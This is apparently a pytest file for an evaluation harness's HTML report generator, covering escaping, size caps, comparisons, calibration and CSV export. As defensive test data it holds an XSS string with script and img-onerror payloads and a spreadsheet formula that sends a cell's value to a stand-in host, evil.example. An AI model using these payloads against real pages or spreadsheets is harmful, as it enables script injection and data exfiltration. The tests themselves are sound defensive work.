"""HTML reports from synthetic RunResults (records built here; no model): escaping, the size cap
of big runs, clickable confusion cells, calibration, comparison and the index."""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from harness.cli import main
from harness.comparison import compare_runs
from harness.errors import UsageError
from harness.report import write_comparison, write_index
from harness.report.run import MAX_CORRECT_PER_LABEL, MAX_ERRORS_INLINE, inline_rows
from harness.report.templating import environment
from harness.stats import mcnemar_exact
from tests.report_helpers import synthetic_result, train_examples, write_synthetic_report


def stored_run(report_root, result):
    """The run's records only, no run page: comparisons and the index read nothing else."""
    return write_synthetic_report(report_root, result, page=False)


EVIL = "<script>alert(1)</script> and </td> & \"quotes\" <img src=x onerror=alert(2)>"
TEXTS = [EVIL, "The box weighs 2 kg.", "I love it."]


class _Collect(HTMLParser):
    """Tags and text as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if not self._in_script:
            self.text.append(data)


def parse(path: Path) -> _Collect:
    parser = _Collect()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


@pytest.fixture
def report_root(tmp_path: Path) -> Path:
    return tmp_path / "reports"


def test_dataset_text_renders_as_text_everywhere(tmp_path, report_root):
    result = synthetic_result(tmp_path, 60, texts=TEXTS)
    directory = write_synthetic_report(report_root, result, train_examples(TEXTS))
    html = (directory / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html and "<img src=x" not in html
    page = parse(directory / "index.html")
    # The only scripts are the report's own: its JS and one JSON data block.
    scripts = [attrs for tag, attrs in page.tags if tag == "script"]
    assert scripts == [{"type": "application/json", "id": "cell-counts"}, {}]
    assert not [attrs for tag, attrs in page.tags if tag == "img" and attrs.get("src") == "x"]
    text = "".join(page.text)
    assert text.count(EVIL) >= 2  # the examples table and the rendered prompt, verbatim as text
    # Every inlined example is one row whose cells hold the text: `</td>` closed nothing.
    rows = [a for t, a in page.tags if t == "tr" and "data-expected" in a]
    assert len(rows) == len(inline_rows(result)[0])
    assert {a["data-expected"] for a in rows} == {"Objective", "Subjective"}
    # The comparison page escapes it too.
    other = synthetic_result(tmp_path, 60, texts=TEXTS, version="v2", accuracy=0.9)
    compare = write_comparison(report_root, [directory, write_synthetic_report(report_root, other)])
    assert "<script>alert(1)" not in compare.read_text(encoding="utf-8")
    assert EVIL in "".join(parse(compare).text)


def test_json_for_scripts_cannot_close_the_script_element():
    value = {"label": "</script><script>alert(1)</script>", "amp": "a & b <!--"}
    rendered = str(environment().filters["json_script"](value))
    assert "<" not in rendered and ">" not in rendered
    assert json.loads(rendered) == value


def test_a_10k_run_inlines_a_capped_sample_and_links_the_full_data(tmp_path, report_root):
    result = synthetic_result(tmp_path, 10_000, seed=3)
    directory = write_synthetic_report(report_root, result)
    html = (directory / "index.html").read_text(encoding="utf-8")
    n_wrong = sum(1 for p in result.predictions if not p.correct)
    assert n_wrong > MAX_ERRORS_INLINE  # the cap is exercised
    assert len(html) < 1_500_000
    inlined = re.findall(r'<tr class="(ok|wrong)" data-expected', html)
    assert inlined.count("wrong") == MAX_ERRORS_INLINE
    assert inlined.count("ok") == MAX_CORRECT_PER_LABEL * 2
    assert f"{n_wrong} of 10000 examples are wrong" in html
    assert f"This page inlines the {MAX_ERRORS_INLINE} least confident of them" in html
    links = {attrs["href"] for tag, attrs in parse(directory / "index.html").tags if tag == "a"}
    assert {"results.csv", "results.jsonl", "metrics.json", "analysis.json"} <= links
    with (directory / "results.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 10_000 and rows[0]["id"] == "ex0"
    assert {"expected", "predicted", "correct", "confidence", "p[Objective]", "text"} <= set(rows[0])
    assert len((directory / "results.jsonl").read_text().splitlines()) == 10_000


def test_errors_are_lowest_confidence_first_and_every_cell_links_its_examples(tmp_path,
                                                                               report_root):
    result = synthetic_result(tmp_path, 120, texts=TEXTS)
    html = (write_synthetic_report(report_root, result) / "index.html").read_text()
    wrong = [float(c) for c in re.findall(
        r'<tr class="wrong" data-expected="[^"]*" data-predicted="[^"]*" data-correct="0" '
        r'data-confidence="([^"]+)"', html)]
    assert wrong and wrong == sorted(wrong)
    cells = re.findall(r'class="cell-link" data-expected="([^"]+)" data-predicted="([^"]+)"', html)
    assert ("Objective", "Subjective") in cells and ("Objective", "Objective") in cells
    for expected, predicted in cells:
        count = sum(1 for p in result.predictions
                    if p.expected == expected and p.predicted == predicted)
        rows = html.count(f'data-expected="{expected}" data-predicted="{predicted}" data-correct')
        cap = count if expected != predicted else min(count, MAX_CORRECT_PER_LABEL)
        assert rows == cap, (expected, predicted)


def test_score_mode_shows_calibration_and_other_modes_say_why_not(tmp_path, report_root):
    scored = write_synthetic_report(report_root, synthetic_result(tmp_path, 80))
    html = (scored / "index.html").read_text()
    assert 'id="reliability-image"' in html and 'id="coverage-image"' in html
    ece = json.loads((scored / "analysis.json").read_text())["calibration"]["ece"]
    assert f"Expected calibration error (ECE): {ece:.3f}" in html
    generated = write_synthetic_report(report_root, synthetic_result(tmp_path, 80, mode="generate"))
    html = (generated / "index.html").read_text()
    assert 'id="reliability-image"' not in html
    assert re.search(r'id="no-confidence">mode &#39;generate&#39; gives no confidence', html)
    assert "INVALID" in html


def test_classical_baseline_is_shown_beside_the_prompt(tmp_path, report_root):
    directory = write_synthetic_report(report_root, synthetic_result(tmp_path, 60, texts=TEXTS),
                                       train_examples(TEXTS))
    html = (directory / "index.html").read_text()
    classical = json.loads((directory / "analysis.json").read_text())["classical"]
    assert f'{classical["metrics"]["macro_f1"]:.3f}' in html
    assert 'id="classical-table"' in html and "trained on the <b>train</b> split" in html
    skipped = write_synthetic_report(report_root, synthetic_result(tmp_path, 10, version="v9"),
                                     train=[])
    assert "needs at least two labels" in (skipped / "index.html").read_text()


def test_compare_reports_deltas_flips_and_mcnemar(tmp_path, report_root):
    a = stored_run(report_root, synthetic_result(tmp_path, 300, accuracy=0.6))
    b = stored_run(report_root, synthetic_result(tmp_path, 300, version="v2", accuracy=0.85))
    comparison = compare_runs(report_root, [a.name, b])  # a run id and a folder
    paired = comparison.paired[0]
    rows_a = {r["id"]: r for r in map(json.loads, (a / "results.jsonl").read_text().splitlines())}
    rows_b = {r["id"]: r for r in map(json.loads, (b / "results.jsonl").read_text().splitlines())}
    ok_a = [rows_a[i]["predicted"] == rows_a[i]["expected"] for i in rows_a]
    ok_b = [rows_b[i]["predicted"] == rows_b[i]["expected"] for i in rows_a]
    assert paired.test == mcnemar_exact(ok_a, ok_b)
    assert len(paired.fixed) == paired.test.fixed > 0
    page = write_comparison(report_root, [a, b]).read_text()
    assert f'{paired.test.pvalue:.4g}' in page
    assert f"Fixed by v2 ({paired.test.fixed})" in page
    assert f"Broken by v2 ({paired.test.broken})" in page
    ma = json.loads((a / "metrics.json").read_text())["metrics"]
    mb = json.loads((b / "metrics.json").read_text())["metrics"]
    assert f'{mb["macro_f1"] - ma["macro_f1"]:+.3f}' in page
    assert f'../{a.name}/index.html' in page


def test_compare_refuses_runs_that_are_not_paired(tmp_path, report_root):
    a = stored_run(report_root, synthetic_result(tmp_path, 40))
    fewer = stored_run(report_root, synthetic_result(tmp_path, 30, version="v2"))
    with pytest.raises(UsageError, match="different examples"):
        compare_runs(report_root, [a, fewer])
    for key, value, what in (("task", "other", "different tasks"),
                             ("split", "train", "different splits"),
                             ("dataset_hash", "e" * 64, "different dataset contents")):
        other = stored_run(report_root, synthetic_result(tmp_path, 40, version="v3"))
        metrics = json.loads((other / "metrics.json").read_text())
        metrics["spec"][key] = value
        (other / "metrics.json").write_text(json.dumps(metrics))
        with pytest.raises(UsageError, match=what):
            compare_runs(report_root, [a, other])
    with pytest.raises(UsageError, match="not a run folder.*recent runs"):
        compare_runs(report_root, [a, "no-such-run"])
    with pytest.raises(UsageError, match="at least two runs"):
        compare_runs(report_root, [a])


def test_index_lists_runs_newest_first_with_a_trend_per_task(tmp_path, report_root):
    for day, version in ((1, "v1"), (3, "v2"), (2, "v1")):
        stored_run(report_root, synthetic_result(
            tmp_path, 30, version=version, seed=day, started_at=f"2026-01-0{day}T00:00:00+00:00"))
    (report_root / "not-a-run").mkdir()  # other folders are skipped, not an error
    page = parse(write_index(report_root))
    rows = [a["href"] for t, a in page.tags if t == "a" and a.get("href", "").endswith("index.html")]
    assert [r.split("-demo-")[1].split("-")[0] for r in rows] == ["v2", "v1", "v1"]
    assert len(rows) == 3
    trends = [a for t, a in page.tags if t == "svg" and "trend" in a.get("class", "")]
    assert [a["id"] for a in trends] == ["trend-demo"] and trends[0]["role"] == "img"
    text = "".join(page.text)
    assert "2026-01-03 00:00" in text and "macro_f1" in text


def test_cli_compare_writes_a_page_and_refuses_unpaired_runs(tmp_path, report_root, capsys,
                                                             monkeypatch):
    monkeypatch.chdir(tmp_path)  # not a harness project: --report-dir is used as given
    a = stored_run(report_root, synthetic_result(tmp_path, 40))
    b = stored_run(report_root, synthetic_result(tmp_path, 40, version="v2"))
    assert main(["report", "compare", a.name, b.name, "--report-dir", str(report_root)]) == 0
    page = Path(capsys.readouterr().out.strip())
    assert page.is_file() and page.parent == report_root / "compare"
    assert "compare/" in (report_root / "index.html").read_text()  # the index lists it
    fewer = stored_run(report_root, synthetic_result(tmp_path, 30, version="v3"))
    assert main(["report", "compare", str(a), str(fewer)]) == 2
    assert "different examples" in capsys.readouterr().err


def test_pages_are_self_contained(tmp_path, report_root):
    """Nothing is fetched: charts are inline SVG, no images, external scripts, styles or fonts."""
    a = write_synthetic_report(report_root, synthetic_result(tmp_path, 50))
    b = write_synthetic_report(report_root, synthetic_result(tmp_path, 50, version="v2"))
    for page in (a / "index.html", write_comparison(report_root, [a, b]), write_index(report_root)):
        tags = parse(page).tags
        assert not [attrs for tag, attrs in tags if tag in ("img", "image", "use")], page
        assert not [attrs for tag, attrs in tags if tag in ("script", "link", "iframe")
                    and ("src" in attrs or "href" in attrs)], page
        assert "http://" not in page.read_text() and "https://" not in page.read_text(), page


def test_results_csv_cannot_smuggle_a_spreadsheet_formula(tmp_path, report_root):
    import doctest

    import harness.store

    assert doctest.testmod(harness.store).failed == 0
    formula = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
    texts = [formula, "-5 stars, would not buy again", "@everyone look", "The box weighs 2 kg."]
    directory = write_synthetic_report(report_root, synthetic_result(tmp_path, 8, texts=texts))
    with (directory / "results.csv").open(encoding="utf-8", newline="") as handle:
        cells = [row["text"] for row in csv.DictReader(handle)][:4]
    assert cells == ["'" + formula, "'-5 stars, would not buy again", "'@everyone look",
                     "The box weighs 2 kg."]
    jsonl = [json.loads(line) for line in (directory / "results.jsonl").read_text().splitlines()]
    assert [row["input"]["text"] for row in jsonl][:4] == texts  # the data itself is verbatim


def test_a_baseline_from_another_limit_model_file_or_dataset_says_so_in_words(tmp_path):
    from dataclasses import replace

    from harness.metrics import metrics_for
    from harness.store import accept_baseline, baseline_mismatch
    from harness.stored import read_baseline

    result = synthetic_result(tmp_path, 4)
    path = tmp_path / "baselines" / "demo" / "v1.json"
    accept_baseline(path, result, metrics_for(result), None)
    baseline = read_baseline(path)
    assert baseline_mismatch(baseline, result) == ""
    limited = replace(result, spec=replace(result.spec, limit=20))
    assert baseline_mismatch(baseline, limited) == \
        "baseline was recorded with limit none (all examples) vs 20"
    other = replace(result, dataset_hash="f" * 64,
                    model_identity={**result.model_identity, "sha256": "e" * 64})
    message = baseline_mismatch(baseline, other)
    assert "model file sha256" in message and "dataset content" in message
    assert "ffffffffffff" in message and "eeeeeeeeeeee" in message


def test_an_old_schema_baseline_names_the_file_and_the_command(tmp_path):
    import pytest

    from harness.errors import UsageError
    from harness.stored import read_baseline

    path = tmp_path / "tickets" / "v1.json"
    path.parent.mkdir(parents=True)
    path.write_text('{"schema": 1, "metrics": {}}', encoding="utf-8")
    with pytest.raises(UsageError) as caught:
        read_baseline(path)
    message = str(caught.value)
    assert str(path) in message and "schema 1" in message
    assert "pytest evals/ --prompt-version v1 --update-baseline" in message


def test_stored_run_round_trips_as_typed_record(tmp_path):
    from harness.metrics import metrics_for
    from harness.store import write_run
    from harness.stored import read_run

    result = synthetic_result(tmp_path, 6)
    metrics = metrics_for(result)
    directory = write_run(result, metrics, tmp_path / "run")
    run = read_run(directory)
    assert run.info.task == result.spec.task and run.info.n_examples == 6
    assert run.metrics.macro_f1 == metrics.macro_f1
    assert [o.id for o in run.outcomes] == [p.example_id for p in result.predictions]
    assert [o.correct for o in run.outcomes] == [p.correct for p in result.predictions]
    assert run.outcomes[0].inputs == dict(result.examples[0].inputs)
